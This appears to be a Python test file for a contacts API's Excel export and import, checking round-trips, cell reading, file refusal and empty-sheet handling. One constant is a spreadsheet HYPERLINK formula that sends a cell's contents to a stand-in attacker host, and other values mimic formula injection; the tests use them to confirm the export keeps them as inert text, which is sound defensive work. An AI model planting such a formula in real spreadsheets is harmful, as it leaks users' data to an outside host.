"""Contacts as Excel workbooks: the export's cells are text (a formula-looking one stays text,
Chinese stays Chinese), it holds the CSV's columns and values, and it imports back onto the
same customers; an .xlsx made elsewhere imports with its cells read as a person reads them
(a phone typed as a number, a date); a file that is no workbook is refused on `file`, without
the parser's words; empty sheets before the table are skipped."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import datetime
from typing import Any

from openpyxl import Workbook, load_workbook

from kith.contacts.mapping import INJECTION_MARK
from kith.core.context import Core
from kith.core.jobs import JobWorker
from tests.api.conftest import ApiSetup

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def workbook(*rows: list[Any]) -> bytes:
    """An .xlsx as Excel saves one; a cell "'=…" is text typed with Excel's `'`."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append([v[1:] if isinstance(v, str) and v.startswith("'") else v for v in row])
        for value, cell in zip(row, sheet[sheet.max_row], strict=False):
            if isinstance(value, str) and value.startswith("'"):
                cell.data_type, cell.quotePrefix = "s", True
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


async def create(api: ApiSetup, **body: Any) -> str:
    response = await api.http.post("/api/v1/customers", json=body, headers=api.auth)
    assert response.status_code == 201, response.text
    return str(response.json()["id"])


async def post(api: ApiSetup, data: bytes, **params: str) -> Any:
    return await api.http.post(
        "/api/v1/customers/import",
        content=data,
        params=params,
        headers={**api.auth, "Content-Type": XLSX},
    )


async def run_import(api: ApiSetup, core: Core, data: bytes, **params: str) -> dict[str, Any]:
    response = await post(api, data, **params)
    assert response.status_code == 202, response.text
    await JobWorker(core).run_once()
    job = await api.http.get(response.headers["Location"], headers=api.auth)
    return dict(job.json())


async def test_the_export_is_text_cells_with_the_csv_columns_and_imports_back(
    api: ApiSetup, core: Core
) -> None:
    ada = await create(
        api,
        name=FORMULA,
        emails=["ada@example.com"],
        phones=["+86 138 0013 8000"],
        tags=["@admin", "vip"],
        attributes={"note": "-2+3", "city": "上海"},
        consent={"email": "granted"},
    )
    li = await create(api, name="李雷", emails=["lilei@example.com"], tags=["vip"])
    await create(api, name="Not chosen", emails=["plain@example.com"])
    vip = json.dumps({"field": "tags", "op": "contains", "value": "vip"})
    response = await api.http.get(
        "/api/v1/customers/export.xlsx", params={"filter": vip}, headers=api.auth
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == XLSX
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment;") and disposition.endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    rows = list(sheet.iter_rows())
    assert all(c.data_type == "s" for row in rows for c in row if c.value is not None)
    header = [c.value for c in rows[0]]
    by_id = {
        row[0].value: {h: c.value or "" for h, c in zip(header, row, strict=True)}
        for row in rows[1:]
    }
    assert set(by_id) == {ada, li}
    assert by_id[ada]["name"] == FORMULA  # as it is, and text: not run, not marked
    name_cell = rows[1 + [r[0].value for r in rows[1:]].index(ada)][1]
    assert name_cell.quotePrefix  # editing it in Excel keeps it text
    assert by_id[ada]["phones"] == "+8613800138000" and by_id[ada]["tags"] == "@admin; vip"
    assert by_id[li]["name"] == "李雷"

    # The CSV's columns and values, its `'` guard aside.
    chosen = {"filter": vip}
    text = (
        await api.http.get("/api/v1/customers/export.csv", params=chosen, headers=api.auth)
    ).text
    csv_rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert list(csv_rows[0]) == header
    for row in csv_rows:
        assert {k: INJECTION_MARK.sub("", v) for k, v in row.items()} == by_id[row["id"]]

    # Edited in Excel and imported back: the same customers change, none is made.
    city = header.index("attributes.city")
    for row in rows[1:]:
        if row[0].value == li:
            row[city].value = "北京"
    edited = io.BytesIO()
    sheet.parent.save(edited)
    job = await run_import(api, core, edited.getvalue(), tag_separator=";")
    assert job["status"] == "done", job
    assert job["result"] == {"created": 0, "updated": 2, "failed": 0, "skipped": 0}, job["errors"]
    assert await core.store.customers.count_documents({}) == 3
    stored = {d["_id"]: d for d in await core.store.customers.find({}).to_list(None)}
    assert stored[ada]["name"] == FORMULA and stored[ada]["tags"] == ["@admin", "vip"]
    assert stored[ada]["attributes"] == {"note": "-2+3", "city": "上海"}
    assert stored[li]["attributes"] == {"city": "北京"} and stored[li]["name"] == "李雷"


async def test_cells_import_as_a_person_reads_them(api: ApiSetup, core: Core) -> None:
    data = workbook(
        ["姓名", "手机", "邮箱", "生日", "积分", "备注"],
        ["王芳", 13800138000, "wf@example.cn", datetime(1990, 5, 1), 3.5, "'=1+2"],
        ["李娜", 13900139000.0, "ln@example.cn", datetime(2024, 5, 1, 9, 30), 12, True],
        ["坏人", 42, "bad@", None, None, None],
        [],
    )
    preview = await post(api, data, preview="true")
    assert preview.status_code == 200, preview.text
    assert preview.json()["encoding"] == "xlsx"
    guessed = {c["header"]: c["target"] for c in preview.json()["columns"]}
    assert guessed["姓名"] == "name" and guessed["手机"] == "phone" and guessed["生日"] is None
    mapping = {
        "姓名": "name",
        "手机": "phone",
        "邮箱": "email",
        "生日": "attributes.birthday",
        "积分": "attributes.points",
        "备注": "attributes.note",
    }
    job = await run_import(api, core, data, mapping=json.dumps(mapping))
    assert job["result"] == {"created": 2, "updated": 0, "failed": 1, "skipped": 0}, job
    assert [(e["row"], e["column"]) for e in job["errors"]] == [(4, "手机"), (4, "邮箱")]
    wang = await core.store.customers.find_one({"name": "王芳"})
    li = await core.store.customers.find_one({"name": "李娜"})
    assert wang is not None and li is not None
    assert wang["phones"] == ["+8613800138000"] and li["phones"] == ["+8613900139000"]
    assert wang["attributes"] == {"birthday": "1990-05-01", "points": "3.5", "note": "=1+2"}
    assert li["attributes"] == {"birthday": "2024-05-01T09:30:00", "points": "12", "note": "true"}


def zipped(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name.replace("__", "/"), data)
    return out.getvalue()


async def test_a_file_that_is_no_workbook_is_refused_on_file(api: ApiSetup) -> None:
    broken = workbook(["name"], ["Ada"])
    for data in (
        b"name,email\nAda,ada@example.com\n",  # a CSV sent as Excel
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512,  # an old .xls
        zipped(notes__readme_txt=b"hello"),  # a zip, no workbook in it
        broken[: len(broken) // 2],  # cut short
    ):
        for preview in ("false", "true"):
            answer = await post(api, data, preview=preview)
            assert answer.status_code == 422, answer.text
            error = answer.json()["error"]
            assert (error["field"], error["reason"]) == ("file", "not_xlsx"), error
            # The parser's own words (KeyError: no item named '[Content_Types].xml') are
            # logged, never shown: the person who chose the file can do nothing with them.
            assert "Error" not in error["message"] and "Content_Types" not in error["message"]
    empty = await post(api, workbook())
    assert empty.status_code == 422 and empty.json()["error"]["reason"] == "empty_file"
    unnamed = await post(api, workbook([None, None], ["Ada", "ada@example.com"]))
    assert unnamed.json()["error"]["reason"] == "no_header"
    charset = await post(api, workbook(["name"], ["Ada"]), encoding="gbk")
    assert charset.status_code == 422 and charset.json()["error"]["field"] == "encoding"


async def test_empty_sheets_before_the_table_are_skipped(api: ApiSetup, core: Core) -> None:
    """A workbook whose first sheet was left blank reads its first sheet holding a cell; the
    sheets after that one are not read, and blank rows above its header still mean no header."""
    book = Workbook()
    assert book.active is not None
    book.active.title = "Blank"
    book.create_sheet("Formatted").cell(row=3, column=2).number_format = "0.00"  # no value
    table = book.create_sheet("客户")
    table.append(["name", "email"])
    table.append(["Ada", "ada@example.com"])
    book.create_sheet("Notes").append(["name", "email"])  # after the table: not read
    book["Notes"].append(["Not read", "notread@example.com"])
    out = io.BytesIO()
    book.save(out)

    preview = await post(api, out.getvalue(), preview="true")
    assert preview.status_code == 200, preview.text
    assert [c["header"] for c in preview.json()["columns"]] == ["name", "email"]
    job = await run_import(api, core, out.getvalue())
    assert job["result"] == {"created": 1, "updated": 0, "failed": 0, "skipped": 0}, job
    names = [d["name"] for d in await core.store.customers.find({}).to_list(None)]
    assert names == ["Ada"]

    blank_top = Workbook()
    assert blank_top.active is not None
    later = blank_top.create_sheet("Data")
    later.append([None])
    later.append(["name"])
    later.append(["Ada"])
    out = io.BytesIO()
    blank_top.save(out)
    for flag in ("true", "false"):
        answer = await post(api, out.getvalue(), preview=flag)
        assert answer.json()["error"]["reason"] == "no_header", answer.text
